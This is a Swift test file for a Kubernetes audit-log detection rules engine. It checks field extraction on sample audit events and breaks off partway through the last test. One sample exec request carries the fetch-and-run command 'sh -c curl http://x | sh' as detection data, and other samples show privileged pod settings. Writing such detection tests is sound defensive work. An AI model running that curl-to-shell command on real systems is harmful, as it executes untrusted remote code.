import XCTest
import Foundation
import AuditJSON
import AuditInput
@testable import AuditRules

// MARK: - Test events

/// Wraps members into an audit event object that has an auditID.
private func event(_ members: String) -> String {
    #"{"kind":"Event","apiVersion":"audit.k8s.io/v1","auditID":"id-1","# + members + "}"
}

/// An exec request at metadata level, with escapes (`\u0026` is how Go's JSON encoder writes `&`).
private let execEvent = event(#"""
"level":"Metadata","stage":"ResponseStarted",\#
"requestURI":"/api/v1/namespaces/default/pods/web-1/exec?command=sh\u0026command=-c\u0026command=curl%20http%3A%2F%2Fx+%7C+sh\u0026container=app\u0026stdin=true",\#
"verb":"create","user":{"username":"\u00e9lise","uid":"u-1","groups":["system:authenticated","dev"]},\#
"impersonatedUser":{"username":"bob"},"sourceIPs":["203.0.113.9","10.0.0.5"],"userAgent":"kubectl/v1.30.0",\#
"objectRef":{"resource":"p\u006fds","namespace":"default","name":"web-1","apiGroup":"","apiVersion":"v1","subresource":"exec"},\#
"responseStatus":{"metadata":{},"status":"Success","code":101},\#
"requestReceivedTimestamp":"2026-11-23T10:00:00.000000Z","stageTimestamp":"2026-11-23T10:00:01.123456789Z",\#
"annotations":{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":"RBAC: allowed by ClusterRoleBinding \"admins\"",\#
"authentication.openshift.io/decision":"allow","authentication.openshift.io/username":"ocp-user",\#
"validation.policy.admission.k8s.io/validation_failure":"[{\"message\":\"no\"}]",\#
"pod-security.kubernetes.io/audit-violations":"privileged (container \"app\")","cluster_name":"prod-eu"}
"""#)

/// A pod creation at RequestResponse level.
private let podEvent = event(#"""
"level":"RequestResponse","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/default/pods","verb":"create",\#
"user":{"username":"alice"},"sourceIPs":["10.0.0.7"],\#
"objectRef":{"resource":"pods","namespace":"default","name":"web","apiVersion":"v1","subresource":null},\#
"responseStatus":{"metadata":{},"code":201},\#
"requestObject":{"kind":"Pod","metadata":{"name":"web"},"spec":{"hostNetwork":true,"hostPID":false,"hostIPC":true,\#
"securityContext":{"runAsUser":1000,"runAsGroup":3000,"fsGroup":2000,"supplementalGroups":[4000,5000]},\#
"containers":[\#
{"name":"app","image":"registry:5000/team/app:1.2@sha256:abc","command":["sh","-c","echo \"hi\""],"args":["--v","2"],\#
"ports":[{"containerPort":8080},{"containerPort":9090,"hostPort":19090}],\#
"securityContext":{"privileged":true,"allowPrivilegeEscalation":false,"readOnlyRootFilesystem":true,"runAsUser":0,\#
"runAsGroup":0,"procMount":"Unmasked","capabilities":{"add":["NET_ADMIN","SYS_TIME"]}}},\#
{"name":"side","image":"nginx"}],\#
"initContainers":[{"name":"init","image":"busybox:1.36","command":["true"],"ports":[{"containerPort":53,"hostPort":53}],\#
"securityContext":{"privileged":false,"runAsUser":7}}],\#
"ephemeralContainers":[{"name":"debug","image":"docker.io/library/alpine@sha256:def","args":["sleep","1d"],\#
"securityContext":{"capabilities":{"add":["SYS_PTRACE"]},"runAsGroup":9}}],\#
"volumes":[{"name":"root","hostPath":{"path":"/etc","type":"Directory"}},{"name":"cfg","configMap":{"name":"c"}},\#
{"name":"flex","flexVolume":{"driver":"example/lvm"}}]}},\#
"responseObject":{"kind":"Pod","metadata":{"name":"web"}},\#
"stageTimestamp":"2024-02-29T23:59:59Z"
"""#)

/// A cluster role binding creation.
private let bindingEvent = event(#"""
"level":"Request","verb":"create","objectRef":{"resource":"clusterrolebindings","name":"b"},\#
"requestObject":{"kind":"ClusterRoleBinding","roleRef":{"kind":"ClusterRole","name":"cluster-admin"},"subjects":[\#
{"kind":"User","name":"alice"},{"kind":"ServiceAccount","name":"builder","namespace":"ci"},{"kind":"Group","name":"devs"},\#
{"kind":"ServiceAccount","name":"default"}]}
"""#)

/// A cluster role creation.
private let roleEvent = event(#"""
"level":"Request","verb":"create","objectRef":{"resource":"clusterroles","name":"r"},\#
"requestObject":{"kind":"ClusterRole","rules":[{"apiGroups":[""],"resources":["pods","pods/exec"],"verbs":["get","create"]},\#
{"nonResourceURLs":["/healthz"],"verbs":["get"]},{"apiGroups":["apps"],"resources":["deployments"],"verbs":["*"]}]}
"""#)

/// A configmap update.
private let configMapEvent = event(#"""
"level":"Request","verb":"update","objectRef":{"resource":"configmaps","namespace":"default","name":"creds"},\#
"requestObject":{"kind":"ConfigMap","data":{"aws_access_key_id":"AKIA","x":"y"}}
"""#)

/// A service creation.
private let serviceEvent = event(#"""
"level":"Request","verb":"create","objectRef":{"resource":"services","name":"s"},\#
"requestObject":{"kind":"Service","spec":{"type":"NodePort","ports":[{"port":80,"nodePort":30080},{"port":443}]}}
"""#)

/// An event with almost nothing in it.
private let bareEvent = event(#""stage":"ResponseComplete""#)

// MARK: - Helpers

/// Extracts `field` (with the argument text `argument`) from `json`. Returns nil when the field has no
/// values ("not available"); fails the test when the field or its argument is unknown or the JSON is bad.
private func values(_ field: String, _ argument: String?, _ json: String,
                    file: StaticString = #filePath, line: UInt = #line) -> [String]? {
    guard let definition = FieldRegistry.standard.lookup(field) else {
        XCTFail("unknown field \(field)", file: file, line: line)
        return nil
    }
    let compiled: FieldArgument
    do {
        compiled = try FieldRegistry.standard.compileArgument(argument, for: definition)
    } catch {
        XCTFail("\(field)[\(argument ?? "")]: \(error)", file: file, line: line)
        return nil
    }
    let bytes = Array(json.utf8)
    return bytes.withUnsafeBytes { raw -> [String]? in
        let tape = JSONTape()
        do {
            try tape.parse(raw)
        } catch {
            XCTFail("bad test JSON: \(error)", file: file, line: line)
            return nil
        }
        // Tiny blocks, so that values spread over several blocks and writers have to grow.
        let arena = ScratchArena(blockSize: 32)
        var output = FieldOutput(arena: arena)
        definition.extract(AuditEvent(root: tape.root), compiled, &output)
        let strings = output.values.map { String(decoding: $0, as: UTF8.self) }
        return strings.isEmpty ? nil : strings
    }
}

/// One expectation: `field[argument]` on `json` gives `expected` (nil = not available).
private struct Case {
    var field: String
    var argument: String?
    var json: String
    var expected: [String]?
    var line: UInt

    init(_ field: String, _ json: String, _ expected: [String]?, line: UInt = #line) {
        self.field = field
        self.argument = nil
        self.json = json
        self.expected = expected
        self.line = line
    }

    init(_ field: String, _ argument: String, _ json: String, _ expected: [String]?, line: UInt = #line) {
        self.field = field
        self.argument = argument
        self.json = json
        self.expected = expected
        self.line = line
    }
}

/// The package root (…/Tests/AuditRulesTests/FieldTests.swift -> …).
private let packageRoot = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
private let sharedDirectory = packageRoot.deletingLastPathComponent().appendingPathComponent("shared")

// MARK: - Tests

final class FieldTests: XCTestCase {
    /// Every field, on events that have its data and on an event that has none.
    private let cases: [Case] = [
        // Metadata
        Case("ka.auditid", execEvent, ["id-1"]),
        Case("ka.stage", execEvent, ["ResponseStarted"]),
        Case("ka.auth.decision", execEvent, ["allow"]),
        Case("ka.auth.reason", execEvent, [#"RBAC: allowed by ClusterRoleBinding "admins""#]),
        Case("ka.auth.openshift.decision", execEvent, ["allow"]),
        Case("ka.auth.openshift.username", execEvent, ["ocp-user"]),
        Case("ka.validations.admission.policy.failure", execEvent, [#"[{"message":"no"}]"#]),
        Case("ka.security.pod.violations", execEvent, [#"privileged (container "app")"#]),
        Case("ka.user.name", execEvent, ["élise"]),
        Case("ka.user.groups", execEvent, ["system:authenticated", "dev"]),
        Case("ka.impuser.name", execEvent, ["bob"]),
        Case("ka.verb", execEvent, ["create"]),
        Case("ka.uri", execEvent, ["/api/v1/namespaces/default/pods/web-1/exec?command=sh&command=-c&command=curl%20http%3A%2F%2Fx+%7C+sh&container=app&stdin=true"]),
        Case("ka.uri.param", "command", execEvent, ["sh"]),
        Case("ka.uri.param", "container", execEvent, ["app"]),
        Case("ka.target.name", execEvent, ["web-1"]),
        Case("ka.target.namespace", execEvent, ["default"]),
        Case("ka.target.resource", execEvent, ["pods"]),
        Case("ka.target.subresource", execEvent, ["exec"]),
        Case("ka.target.subresource", podEvent, nil),           // JSON null = missing
        Case("ka.target.pod.name", podEvent, ["web"]),
        Case("ka.target.pod.name", execEvent, nil),              // a subresource
        Case("ka.target.pod.name", serviceEvent, nil),           // not pods
        Case("ka.resp.name", podEvent, ["web"]),
        Case("ka.response.code", execEvent, ["101"]),
        Case("ka.response.code", podEvent, ["201"]),
        Case("ka.response.reason", execEvent, nil),
        Case("ka.useragent", execEvent, ["kubectl/v1.30.0"]),
        Case("ka.sourceips", execEvent, ["203.0.113.9", "10.0.0.5"]),
        Case("ka.sourceips", "0", execEvent, ["203.0.113.9"]),
        Case("ka.sourceips", "1", execEvent, ["10.0.0.5"]),
        Case("ka.sourceips", "2", execEvent, nil),
        Case("ka.cluster.name", execEvent, ["prod-eu"]),
        Case("ka.req.configmap.name", configMapEvent, ["creds"]),

        // AuditHound additions
        Case("ka.sourceip", execEvent, ["10.0.0.5"]),
        Case("ka.level", execEvent, ["Metadata"]),
        Case("ka.target.apigroup", execEvent, [""]),
        Case("ka.target.apiversion", execEvent, ["v1"]),
        Case("ka.user.uid", execEvent, ["u-1"]),
        Case("ka.response.status", execEvent, ["Success"]),
        Case("ka.response.message", #"{"auditID":"x","responseStatus":{"message":"pods \"x\" is forbidden","code":403}}"#, [#"pods "x" is forbidden"#]),
        Case("ka.uri.path", execEvent, ["/api/v1/namespaces/default/pods/web-1/exec"]),
        Case("ka.uri.params", "command", execEvent, ["sh", "-c", "curl http://x | sh"]),
        Case("ka.exec.command", execEvent, ["sh -c curl http://x | sh"]),

        // Role bindings
        Case("ka.req.binding.subjects", bindingEvent, [#"{"kind":"User","name":"alice"}"#, #"{"kind":"ServiceAccount","name":"builder","namespace":"ci"}"#,
                                                       #"{"kind":"Group","name":"devs"}"#, #"{"kind":"ServiceAccount","name":"default"}"#]),
        Case("ka.req.binding.subjects.user_names", bindingEvent, ["alice"]),
        Case("ka.req.binding.subjects.serviceaccount_names", bindingEvent, ["builder", "default"]),
        Case("ka.req.binding.subjects.serviceaccount_ns_names", bindingEvent, ["ci:builder", ":default"]),
        Case("ka.req.binding.subjects.group_names", bindingEvent, ["devs"]),
        Case("ka.req.binding.role", bindingEvent, ["cluster-admin"]),
        Case("ka.req.binding.subject.has_name", "devs", bindingEvent, ["true"]),
        Case("ka.req.binding.subject.has_name", "mallory", bindingEvent, ["false"]),

        // Config maps
        Case("ka.req.configmap.obj", configMapEvent, [#"{"aws_access_key_id":"AKIA","x":"y"}"#]),

        // Roles
        Case("ka.req.role.rules", roleEvent, [#"{"apiGroups":[""],"resources":["pods","pods/exec"],"verbs":["get","create"]}"#,
                                              #"{"nonResourceURLs":["/healthz"],"verbs":["get"]}"#,
                                              #"{"apiGroups":["apps"],"resources":["deployments"],"verbs":["*"]}"#]),
        Case("ka.req.role.rules.apiGroups", roleEvent, ["", "apps"]),
        Case("ka.req.role.rules.apiGroups", "1", roleEvent, nil),
        Case("ka.req.role.rules.apiGroups", "2", roleEvent, ["apps"]),
        Case("ka.req.role.rules.nonResourceURLs", roleEvent, ["/healthz"]),
        Case("ka.req.role.rules.verbs", roleEvent, ["get", "create", "get", "*"]),
        Case("ka.req.role.rules.verbs", "0", roleEvent, ["get", "create"]),
        Case("ka.req.role.rules.verbs", "3", roleEvent, nil),
        Case("ka.req.role.rules.resources", roleEvent, ["pods", "pods/exec", "deployments"]),

        // Services
        Case("ka.req.service.type", serviceEvent, ["NodePort"]),
        Case("ka.req.service.ports", serviceEvent, [#"{"port":80,"nodePort":30080}"#, #"{"port":443}"#]),
        Case("ka.req.service.ports", "1", serviceEvent, [#"{"port":443}"#]),
        Case("ka.req.service.ports", "2", serviceEvent, nil),

        // Pod-level settings
        Case("ka.req.container.image", podEvent, ["registry:5000/team/app:1.2@sha256:abc"]),
        Case("ka.req.container.image.repository", podEvent, ["registry:5000/team/app"]),
        Case("ka.req.pod.host_ipc", podEvent, ["true"]),
        Case("ka.req.pod.host_network", podEvent, ["true"]),
        Case("ka.req.container.host_network", podEvent, ["true"]),
        Case("ka.req.pod.host_pid", podEvent, ["false"]),
        Case("ka.req.container.privileged", podEvent, ["true"]),
        Case("ka.req.pod.run_as_user", podEvent, ["1000"]),
        Case("ka.req.pod.run_as_group", podEvent, ["3000"]),
        Case("ka.req.pod.fs_group", podEvent, ["2000"]),
        Case("ka.req.pod.supplemental_groups", podEvent, ["4000", "5000"]),

        // Volumes
        Case("ka.req.pod.volumes.hostpath", podEvent, ["/etc"]),
        Case("ka.req.pod.volumes.hostpath", "0", podEvent, ["/etc"]),
        Case("ka.req.pod.volumes.hostpath", "1", podEvent, nil),
        Case("ka.req.pod.volumes.hostpath", "9", podEvent, nil),
        Case("ka.req.volume.hostpath", "/etc", podEvent, ["true"]),
        Case("ka.req.volume.hostpath", "/et*", podEvent, ["true"]),
        Case("ka.req.volume.hostpath", "/et", podEvent, ["false"]),
        Case("ka.req.volume.hostpath", "/var*", podEvent, ["false"]),
        Case("ka.req.pod.volumes.flexvolume_driver", podEvent, ["example/lvm"]),
        Case("ka.req.pod.volumes.volume_type", podEvent, ["hostPath", "configMap", "flexVolume"]),
        Case("ka.req.pod.volumes.volume_type", "1", podEvent, ["configMap"]),

        // Containers
        Case("ka.req.pod.containers.name", podEvent, ["app", "side"]),
        Case("ka.req.pod.containers.name", "1", podEvent, ["side"]),
        Case("ka.req.pod.containers.name", "2", podEvent, nil),
        Case("ka.req.pod.containers.image", podEvent, ["registry:5000/team/app:1.2@sha256:abc", "nginx"]),
        Case("ka.req.pod.containers.image", "0", podEvent, ["registry:5000/team/app:1.2@sha256:abc"]),
        Case("ka.req.pod.containers.image.repository", podEvent, ["registry:5000/team/app", "nginx"]),
        Case("ka.req.pod.containers.command", podEvent, [#"sh -c echo "hi""#]),
        Case("ka.req.pod.containers.command", "1", podEvent, nil),
        Case("ka.req.pod.containers.args", podEvent, ["--v 2"]),
        Case("ka.req.pod.containers.host_port", podEvent, ["8080", "19090"]),
        Case("ka.req.pod.containers.host_port", "1", podEvent, nil),
        Case("ka.req.pod.containers.privileged", podEvent, ["true"]),
        Case("ka.req.pod.containers.allow_privilege_escalation", podEvent, ["false"]),
        Case("ka.req.pod.containers.read_only_fs", podEvent, ["true"]),
        Case("ka.req.pod.containers.run_as_user", podEvent, ["0"]),
        Case("ka.req.pod.containers.eff_run_as_user", podEvent, ["0", "1000"]),
        Case("ka.req.pod.containers.eff_run_as_user", "1", podEvent, ["1000"]),
        Case("ka.req.pod.containers.run_as_group", podEvent, ["0"]),
        Case("ka.req.pod.containers.eff_run_as_group", podEvent, ["0", "3000"]),
        Case("ka.req.pod.containers.proc_mount", podEvent, ["Unmasked"]),
        Case("ka.req.pod.containers.add_capabilities", podEvent, [#"["NET_ADMIN","SYS_TIME"]"#]),

        // Init containers
        Case("ka.req.pod.initContainers.name", podEvent, ["init"]),
        Case("ka.req.pod.initContainers.image", podEvent, ["busybox:1.36"]),
        Case("ka.req.pod.initContainers.image.repository", podEvent, ["busybox"]),
        Case("ka.req.pod.initContainers.command", podEvent, ["true"]),
        Case("ka.req.pod.initContainers.args", podEvent, nil),
        Case("ka.req.pod.initContainers.host_port", podEvent, ["53"]),
        Case("ka.req.pod.initContainers.privileged", podEvent, ["false"]),
        Case("ka.req.pod.initContainers.allow_privilege_escalation", podEvent, nil),
        Case("ka.req.pod.initContainers.read_only_fs", podEvent, nil),
        Case("ka.req.pod.initContainers.run_as_user", podEvent, ["7"]),
        Case("ka.req.pod.initContainers.eff_run_as_user", podEvent, ["7"]),
        Case("ka.req.pod.initContainers.run_as_group", podEvent, nil),
        Case("ka.req.pod.initContainers.eff_run_as_group", podEvent, ["3000"]),
        Case("ka.req.pod.initContainers.proc_mount", podEvent, nil),
        Case("ka.req.pod.initContainers.add_capabilities", podEvent, nil),

        // Ephemeral containers
        Case("ka.req.pod.ephemeralContainers.name", podEvent, ["debug"]),
        Case("ka.req.pod.ephemeralContainers.image", podEvent, ["docker.io/library/alpine@sha256:def"]),
        Case("ka.req.pod.ephemeralContainers.image.repository", podEvent, ["docker.io/library/alpine"]),
        Case("ka.req.pod.ephemeralContainers.command", podEvent, nil),
        Case("ka.req.pod.ephemeralContainers.args", podEvent, ["sleep 1d"]),
        Case("ka.req.pod.ephemeralContainers.privileged", podEvent, nil),
        Case("ka.req.pod.ephemeralContainers.allow_privilege_escalation", podEvent, nil),
        Case("ka.req.pod.ephemeralContainers.read_only_fs", podEvent, nil),
        Case("ka.req.pod.ephemeralContainers.run_as_user", podEvent, nil),
        Case("ka.req.pod.ephemeralContainers.eff_run_as_user", podEvent, ["1000"]),
        Case("ka.req.pod.ephemeralContainers.run_as_group", podEvent, ["9"]),
        Case("ka.req.pod.ephemeralContainers.eff_run_as_group", podEvent, ["9"]),
        Case("ka.req.pod.ephemeralContainers.proc_mount", podEvent, nil),
        Case("ka.req.pod.ephemeralContainers.add_capabilities", podEvent, [#"["SYS_PTRACE"]"#]),

        // json plugin and time
        Case("jevt.value", "/objectRef/name", execEvent, ["web-1"]),
        Case("jevt.value", "/objectRef/resource", execEvent, ["pods"]),
        Case("jevt.value", "/responseStatus/code", execEvent, ["101"]),
        Case("jevt.value", "/sourceIPs/1", execEvent, ["10.0.0.5"]),
        Case("jevt.value", "/sourceIPs/2", execEvent, nil),
        Case("jevt.value", "/user/groups", execEvent, [#"["system:authenticated","dev"]"#]),
        Case("jevt.value", "/annotations/authorization.k8s.io~1decision", execEvent, ["allow"]),
        Case("jevt.value", "/requestObject/spec/tls", execEvent, nil),
        Case("json.value", "/stage", execEvent, ["ResponseStarted"]),
        Case("jevt.obj", bareEvent, [bareEvent]),
        Case("jevt.rawtime", execEvent, ["1795428001123456789"]),
        Case("jevt.rawtime", podEvent, ["1709251199000000000"]),
        Case("evt.time", execEvent, ["2026-11-23T10:00:01.123456789Z"]),
        Case("evt.time", podEvent, ["2024-02-29T23:59:59.000000000Z"]),
        Case("evt.time.iso8601", execEvent, ["2026-11-23T10:00:01.123456789Z"]),
    ]

    func testEveryFieldOnItsEvents() {
        for c in cases {
            XCTAssertEqual(values(c.field, c.argument, c.json, line: c.line), c.expected, "\(c.field)[\(c.argument ?? "")]", line: c.line)
        }
    }

    func testEveryFieldIsCoveredAndMissingDataGivesNoValues() {
        let covered = Set(cases.map(\.field))
        for definition in FieldRegistry.standard.all {
            XCTAssertTrue(covered.contains(definition.name), "no test case for \(definition.name)")
            // On an event without the data, no field has values, except the ones that always do.
            let argument: String?
            switch definition.argument {
            case .none, .optionalIndex: argument = nil
            case .requiredKey: argument = "command"
            case .requiredPointer: argument = "/requestObject/spec"
            }
            let got = values(definition.name, argument, bareEvent)
            switch definition.name {
            case "ka.auditid": XCTAssertEqual(got, ["id-1"])
            case "ka.stage": XCTAssertEqual(got, ["ResponseComplete"])
            case "jevt.obj": XCTAssertEqual(got, [bareEvent])
            default: XCTAssertNil(got, "\(definition.name) on an event without its data")
            }
        }
    }

    func testInlineFieldAccessGivesWhatTheExtractorGives() throws {
        // The evaluator reads fields that have a `FieldAccess` without calling their extractor; on every
        // test event (escapes, nulls, numbers, missing or non-object parents) both must agree.
        let inline = FieldRegistry.standard.all.filter { $0.access != nil }
        XCTAssertGreaterThanOrEqual(inline.count, 15)
        let rules = "- rule: R\n  desc: d\n  condition: ka.auditid exists\n  output: x " + inline.map { "%" + $0.name }.joined(separator: " ")
            + "\n  priority: INFO\n"
        let loaded = RuleCompiler.load([RuleFile(path: "r.yaml", text: rules)])
        let ruleSet = try XCTUnwrap(loaded.ruleSet, loaded.diagnostics.map(\.description).joined(separator: "\n"))
        let evaluator = RuleEvaluator(ruleSet: ruleSet)
        let odd = [
            event(#""user":null,"objectRef":"pods","responseStatus":{"code":403.0,"reason":null},"annotations":{"authorization.k8s.io/decision":"al\u006cow","authorization.k8s.io/decision":"forbid"},"userAgent":7,"verb":["get"]"#),
            event(#""user":{"username":{"a":1}},"impersonatedUser":[],"objectRef":{"resource":"","subresource":null},"stage":null"#),
        ]
        var compared = 0
        for json in [execEvent, podEvent, bindingEvent, roleEvent, configMapEvent, serviceEvent, bareEvent] + odd {
            let bytes = Array(json.utf8)
            try bytes.withUnsafeBytes { raw in
                let tape = JSONTape()
                try tape.parse(raw)
                let e = AuditEvent(root: tape.root)
                evaluator.evaluate(e) { _ in }
                for definition in inline {
                    let slot = try XCTUnwrap(ruleSet.fields.firstIndex { $0.definition.name == definition.name })
                    let direct = evaluator.values(ofSlot: slot).map { String(decoding: $0, as: UTF8.self) }
                    let arena = ScratchArena()
                    var output = FieldOutput(arena: arena)
                    definition.extract(e, .none, &output)
                    let viaExtractor = output.values.map { String(decoding: $0, as: UTF8.self) }
                    XCTAssertEqual(direct, viaExtractor, "\(definition.name) on \(json)")
                    compared += 1
                }
            }
        }
        XCTAssertEqual(compared, inline.count * 9)
    }

    /// Events whose bodies the tape left unparsed (``JSONTape/deferredKeys``, as the replay pipeline
    /// parses) give every field exactly the values of a full parse: fields that read bodies
    /// (``BoundField/readsBodies``) make the evaluator parse the event again, the others never do.
    func testEveryFieldGivesTheSameValuesWhenBodiesAreDeferred() throws {
        var names: [String] = []
        for d in FieldRegistry.standard.all {
            switch d.argument {
            case .none: names.append(d.name)
            case .requiredKey: names += ["\(d.name)[command]", "\(d.name)[authorization.k8s.io/decision]", "\(d.name)[x]"]
            case .optionalIndex: names += [d.name, "\(d.name)[0]", "\(d.name)[1]"]
            case .requiredPointer:
                names += ["/requestObject", "/requestObject/spec/containers/0/image", "/responseObject/metadata/name",
                          "/objectRef/name", "/requestObject/subjects/0", "/annotations"].map { "\(d.name)[\($0)]" }
            }
        }
        let rules = "- rule: R\n  desc: d\n  condition: ka.auditid exists\n  output: x " + names.map { "%" + $0 }.joined(separator: " ")
            + "\n  priority: INFO\n"
        let loaded = RuleCompiler.load([RuleFile(path: "r.yaml", text: rules)])
        let ruleSet = try XCTUnwrap(loaded.ruleSet, loaded.diagnostics.map(\.description).joined(separator: "\n"))
        XCTAssertEqual(ruleSet.fields.count, names.count)
        XCTAssertGreaterThan(ruleSet.fields.filter(\.readsBodies).count, 30)
        XCTAssertGreaterThan(ruleSet.fields.filter { !$0.readsBodies }.count, 30)
        let strict = RuleEvaluator(ruleSet: ruleSet)
        let lazy = RuleEvaluator(ruleSet: ruleSet)
        var compared = 0
        for json in [execEvent, podEvent, bindingEvent, roleEvent, configMapEvent, serviceEvent, bareEvent] {
            let bytes = Array(json.utf8)
            try bytes.withUnsafeBytes { raw in
                let full = JSONTape()
                try full.parse(raw)
                let deferredTape = JSONTape()
                deferredTape.deferredKeys = ["requestObject", "responseObject"]
                try deferredTape.parse(raw)
                let e = AuditEvent(root: deferredTape.root)
                strict.evaluate(AuditEvent(root: full.root)) { _ in }
                lazy.evaluate(e) { _ in }
                let before = lazy.bodiesParsed
                // Fields that do not read bodies first: they must not make the evaluator parse the event.
                let order = ruleSet.fields.indices.sorted { (ruleSet.fields[$0].readsBodies ? 1 : 0) < (ruleSet.fields[$1].readsBodies ? 1 : 0) }
                for slot in order {
                    let field = ruleSet.fields[slot]
                    let a = strict.values(ofSlot: slot).map { String(decoding: $0, as: UTF8.self) }
                    let b = lazy.values(ofSlot: slot).map { String(decoding: $0, as: UTF8.self) }
                    XCTAssertEqual(a, b, "\(field.displayName) on \(json)")
                    if !field.readsBodies {
                        XCTAssertEqual(lazy.bodiesParsed, before, "\(field.displayName) made the evaluator parse the bodies")
                    }
                    compared += 1
                }
                XCTAssertEqual(lazy.bodiesParsed - before, e.hasDeferredBody ? 1 : 0, "bodies are parsed once, when needed")
                XCTAssertNil(lazy.bodyError)
            }
        }
        XCTAssertEqual(compared, names.count * 7)
    }

    /// A body that a rule reads but is not valid JSON counts as absent, with the error; fields outside the
    /// bodies keep their values.
    func testInvalidDeferredBodyIsReportedAndCountsAsAbsent() throws {
        let rules = "- rule: R\n  desc: d\n  condition: ka.verb = create and not ka.req.pod.containers.image exists\n  output: x %ka.user.name\n  priority: INFO\n"
        let ruleSet = try XCTUnwrap(RuleCompiler.load([RuleFile(path: "r.yaml", text: rules)]).ruleSet)
        let evaluator = RuleEvaluator(ruleSet: ruleSet)
        let json = event(#""verb":"create","user":{"username":"eve"},"requestObject":{"spec":{"containers":[{"image":"x",,}]}}"#)
        let bytes = Array(json.utf8)
        try bytes.withUnsafeBytes { raw in
            let tape = JSONTape()
            tape.deferredKeys = ["requestObject", "responseObject"]
            try tape.parse(raw)
            var matched: [Int] = []
            evaluator.evaluate(AuditEvent(root: tape.root)) { matched.append($0) }
            XCTAssertEqual(matched, [0])
            let error = try XCTUnwrap(evaluator.bodyError)
            XCTAssertEqual(error.reason, .expectedKey)
            XCTAssertEqual(Array(bytes[error.offset...].prefix(2)), Array(",}".utf8), "offset of the fault in the record")
            XCTAssertEqual(evaluator.render(rule: 0, time: 0, auditID: "id-1", input: "f:1").message, "x eve")
            // The next event starts clean.
            let good = Array(event(#""verb":"create","requestObject":{"spec":{"containers":[{"image":"x"}]}}"#).utf8)
            try good.withUnsafeBytes { raw2 in
                try tape.parse(raw2)
                var again: [Int] = []
                evaluator.evaluate(AuditEvent(root: tape.root)) { again.append($0) }
                XCTAssertEqual(again, [])
                XCTAssertNil(evaluator.bodyError)
            }
        }
    }

    func testRegistryLookupAndListing() {
        let registry = FieldRegistry.standard
        XCTAssertEqual(registry.lookup("json.value")?.name, "jevt.value")
        XCTAssertEqual(registry.lookup("json.obj")?.name, "jevt.obj")
        XCTAssertNil(registry.lookup("ka.nope"))
        XCTAssertNil(registry.lookup("ka"))
        let names = registry.all.map(\.name)
        XCTAssertEqual(names, names.sorted())
        XCTAssertEqual(Set(names).count, names.count)
        XCTAssertEqual(names.filter { $0.hasPrefix("ka.") }.count, 100 + 10)
        XCTAssertEqual(registry.lookup("ka.req.pod.containers.image")?.level, .request)
        XCTAssertEqual(registry.lookup("ka.resp.name")?.level, .requestResponse)
        XCTAssertEqual(registry.lookup("ka.req.configmap.name")?.level, .metadata)
        for d in registry.all {
            XCTAssertFalse(d.description.isEmpty, d.name)
            XCTAssertFalse(d.description.contains("|"), "\(d.name): '|' breaks the docs table")
        }
    }

    func testArgumentCompilation() throws {
        let registry = FieldRegistry.standard
        func compile(_ field: String, _ text: String?) throws(FieldArgumentError) -> FieldArgument {
            try registry.compileArgument(text, for: registry.lookup(field)!)
        }
        XCTAssertEqual(try compile("ka.verb", nil), FieldArgument.none)
        XCTAssertEqual(try compile("ka.req.pod.containers.image", nil), FieldArgument.none)
        XCTAssertEqual(try compile("ka.req.pod.containers.image", "12"), .index(12))
        XCTAssertEqual(try compile("ka.uri.param", "command"), .key("command", JSONKey("command")))
        XCTAssertEqual(try compile("jevt.value", "/a~1b/0"), .pointer(try JSONPointer("/a~1b/0")))
        let bad: [(String, String?)] = [
            ("ka.verb", "x"), ("ka.uri.param", nil), ("ka.uri.param", ""), ("ka.req.pod.containers.image", "x"),
            ("ka.req.pod.containers.image", "-1"), ("ka.req.pod.containers.image", ""), ("ka.req.pod.containers.image", "99999999999"),
            ("jevt.value", nil), ("jevt.value", "stage"), ("jevt.value", "/a~2"),
        ]
        for (field, text) in bad {
            XCTAssertThrowsError(try compile(field, text), "\(field)[\(text ?? "nil")]") { error in
                XCTAssertTrue((error as? FieldArgumentError)?.message.contains(field) == true, "\(error)")
            }
        }
    }

    func testURIParameters() {
        let uri = #"/api/v1/namespaces/x/pods?labelSelector=app%3Dweb\u0026a=1+2\u0026a=3\u0026empty=\u0026flag\u0026bad=%zz\u0026semi=1;x=2\u0026enc%61=ok\u0026sp%20ace=v#frag=1"#
        let e = event(#""requestURI":""# + uri + #"""#)
        XCTAssertEqual(values("ka.uri.param", "labelSelector", e), ["app=web"])
        XCTAssertEqual(values("ka.uri.param", "a", e), ["1 2"])
        XCTAssertEqual(values("ka.uri.params", "a", e), ["1 2", "3"])
        XCTAssertEqual(values("ka.uri.param", "empty", e), [""])
        XCTAssertEqual(values("ka.uri.param", "flag", e), [""])
        XCTAssertNil(values("ka.uri.param", "bad", e))        // malformed escape: the pair is dropped
        XCTAssertNil(values("ka.uri.param", "semi", e))       // ';' in a pair: dropped
        XCTAssertNil(values("ka.uri.param", "x", e))
        XCTAssertEqual(values("ka.uri.param", "enca", e), ["ok"])   // names are decoded too
        XCTAssertEqual(values("ka.uri.param", "sp ace", e), ["v"])
        XCTAssertNil(values("ka.uri.param", "frag", e))       // the fragment is not part of the query
        XCTAssertNil(values("ka.uri.param", "missing", e))
        XCTAssertEqual(values("ka.uri.path", nil, e), ["/api/v1/namespaces/x/pods"])
        XCTAssertEqual(values("ka.uri.param", "a", event(#""requestURI":"/x?a=%2F%2f+%2B""#)), ["// +"])
        // No query at all, or a '#' before the '?'.
        XCTAssertNil(values("ka.uri.param", "a", event(#""requestURI":"/api/v1/pods""#)))
        XCTAssertNil(values("ka.uri.param", "a", event(#""requestURI":"/p#x?a=1""#)))
        XCTAssertEqual(values("ka.uri.path", nil, event(#""requestURI":"/p#x?a=1""#)), ["/p"])
        XCTAssertEqual(values("ka.uri.path", nil, event(#""requestURI":"/healthz""#)), ["/healthz"])
    }

    func testExecCommand() {
        // Only for exec requests; parameters joined in order, each decoded.
        XCTAssertEqual(values("ka.exec.command", nil, event(#""requestURI":"/api/v1/namespaces/d/pods/p/exec?command=ls\u0026command=-la\u0026command=%2Fetc""#)),
                       ["ls -la /etc"])
        XCTAssertEqual(values("ka.exec.command", nil, event(#""requestURI":"/api/v1/namespaces/d/pods/p/exec?container=c\u0026command=""#)), [""])
        XCTAssertNil(values("ka.exec.command", nil, event(#""requestURI":"/api/v1/namespaces/d/pods/p/exec?container=c""#)))
        XCTAssertNil(values("ka.exec.command", nil, event(#""requestURI":"/api/v1/namespaces/d/pods/p/attach?command=ls""#)))
